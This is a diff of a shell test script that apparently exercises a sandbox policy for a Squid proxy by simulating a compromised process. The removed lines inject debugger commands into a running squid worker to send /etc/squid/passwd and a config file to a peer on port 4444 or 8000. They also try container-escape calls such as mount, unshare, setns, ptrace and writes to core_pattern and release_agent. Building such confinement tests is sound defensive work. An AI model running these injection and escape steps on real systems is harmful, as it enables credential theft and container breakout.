@@ -442,17 +442,8 @@ attack_code_connect() {
 	harm read /etc/squid/passwd
 	harm connect "$peer_address:4444"
 	thief_begin
-	squid_sends /etc/squid/passwd 0x0100580a5c110002
+	code_sends "$(squid_worker)" /etc/squid/passwd 4444
 	thief_got '^manager:'
-}
-
-# squid_sends FILE ADDRESS: code inside the process that answers sends a file there.
-# shellcheck disable=SC2016 # the debugger's variables
-squid_sends() {
-	inject_pid "$(squid_worker)" 'set $a = (char *) malloc(256)' "set {long} \$a = $2" \
-		'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' "set \$f = (int) open(\"$1\", 0)" \
-		'print (long) sendfile($s, $f, 0, 4096)' 'print (int) close($f)' 'print (int) close($s)'
 }
 
 # Code inside takes root's rights, and puts a line into the script that each new helper runs.
@@ -469,17 +460,7 @@ attack_script_replaced() {
 
 # Ways out of a container, each tried by code inside the first squid process, which is root.
 attack_escape() {
-	harm call mount
-	harm call unshare
-	harm call setns
-	harm call mknodat
-	harm call ptrace
-	inject_pid "$(squid_master)" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
-		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
-		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
-		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
-		'print (int) open("/sys/fs/cgroup/release_agent", 1)' | grep -q = &&
-		alive "$(squid_master)"
+	code_escapes "$(squid_master)"
 }
 
 # ---- adaptive: known calls, files and peers only ----
@@ -520,7 +501,7 @@ adaptive_purge() {
 adaptive_shop() {
 	harm read /etc/squid/conf.d/office.conf
 	harm connect "$peer_address:8000"
-	squid_sends /etc/squid/conf.d/office.conf 0x0100580a401f0002
+	code_sends "$(squid_worker)" /etc/squid/conf.d/office.conf 8000
 	# Its log has the first line, which is no request.
 	until_true 10 grep -q visible_hostname "$stage/peer-world.log"
 }
